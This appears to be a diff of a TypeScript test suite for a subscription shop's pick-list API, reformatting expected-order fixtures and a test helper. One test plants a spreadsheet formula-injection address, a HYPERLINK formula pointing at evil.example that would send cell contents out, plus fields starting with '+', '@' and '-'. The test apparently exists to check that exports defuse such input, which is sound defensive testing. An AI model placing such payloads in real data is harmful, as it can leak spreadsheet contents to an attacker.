@@ -53,7 +53,14 @@ async function subscribe(app: Express, merchant: TestMerchant, planId: string, v
 }
 
 /** Stripe reports the cycle starting at `periodStart` paid; returns the cycle's order as the API shows it. */
-async function pay(app: Express, merchant: TestMerchant, clock: FakeClock, shopper: { subscriptionId: string; stripeSubscriptionId: string }, periodStart: Date, amountMinor = 1300) {
+async function pay(
+  app: Express,
+  merchant: TestMerchant,
+  clock: FakeClock,
+  shopper: { subscriptionId: string; stripeSubscriptionId: string },
+  periodStart: Date,
+  amountMinor = 1300,
+) {
   const deps = { clock, stripe: createStripeGateway(testStripe()), logger: silentLogger };
   await recordPaidInvoice(deps, buildPaidInvoice(shopper.stripeSubscriptionId, periodStart, amountMinor, `in_${randomBytes(8).toString('hex')}`));
   const orders = (await request(app).get(`/api/v1/orders?subscriptionId=${shopper.subscriptionId}`).set(merchant.auth).expect(200)).body.data;
@@ -91,9 +98,30 @@ describe('GET /api/v1/pick-list', () => {
 
     expect(res.headers['content-type']).toMatch(/^application\/json/);
     const expectedOrders = [
-      { orderId: orders.springfield.id, subscriptionId: shoppers.springfield.subscriptionId, customerId: shoppers.springfield.customerId, status: 'paid', shippingAddress: SPRINGFIELD, lines: [{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, stock: 'reserved' }] },
-      { orderId: orders.paris.id, subscriptionId: shoppers.paris.subscriptionId, customerId: shoppers.paris.customerId, status: 'paid', shippingAddress: PARIS, lines: [{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, stock: 'short' }] },
-      { orderId: orders.leeds.id, subscriptionId: shoppers.leeds.subscriptionId, customerId: shoppers.leeds.customerId, status: 'paid', shippingAddress: LEEDS, lines: [{ sku: 'BEAN-LIGHT', description: "Roaster's pick: Light", quantity: 1, stock: 'untracked' }] },
+      {
+        orderId: orders.springfield.id,
+        subscriptionId: shoppers.springfield.subscriptionId,
+        customerId: shoppers.springfield.customerId,
+        status: 'paid',
+        shippingAddress: SPRINGFIELD,
+        lines: [{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, stock: 'reserved' }],
+      },
+      {
+        orderId: orders.paris.id,
+        subscriptionId: shoppers.paris.subscriptionId,
+        customerId: shoppers.paris.customerId,
+        status: 'paid',
+        shippingAddress: PARIS,
+        lines: [{ sku: 'BEAN-DARK', description: "Roaster's pick: Dark", quantity: 1, stock: 'short' }],
+      },
+      {
+        orderId: orders.leeds.id,
+        subscriptionId: shoppers.leeds.subscriptionId,
+        customerId: shoppers.leeds.customerId,
+        status: 'paid',
+        shippingAddress: LEEDS,
+        lines: [{ sku: 'BEAN-LIGHT', description: "Roaster's pick: Light", quantity: 1, stock: 'untracked' }],
+      },
     ].sort((a, b) => byOrderId(a.orderId, b.orderId));
     expect(res.body).toEqual({
       object: 'pick_list',
@@ -158,7 +186,14 @@ describe('GET /api/v1/pick-list', () => {
     const merchant = await createMerchant({ timezone: 'America/New_York' }, clock);
     const plan = await createRoastersPick(app, merchant);
     const shopper = await subscribe(app, merchant, plan.id, plan.variantIds[1]!, SPRINGFIELD);
-    const hostile: Address = { line1: '=HYPERLINK("https://evil.example/?"&A1,"Track")', line2: '+1 555 0100', city: '@Springfield', region: '-IL', postalCode: '62701', country: 'US' };
+    const hostile: Address = {
+      line1: '=HYPERLINK("https://evil.example/?"&A1,"Track")',
+      line2: '+1 555 0100',
+      city: '@Springfield',
+      region: '-IL',
+      postalCode: '62701',
+      country: 'US',
+    };
     // Moved before the payment: the box goes to the address of the moment it is paid.
     await request(app).patch(`/api/v1/customers/${shopper.customerId}`).set(merchant.auth).send({ shippingAddress: hostile }).expect(200);
     const order = await pay(app, merchant, clock, shopper, clock.now());
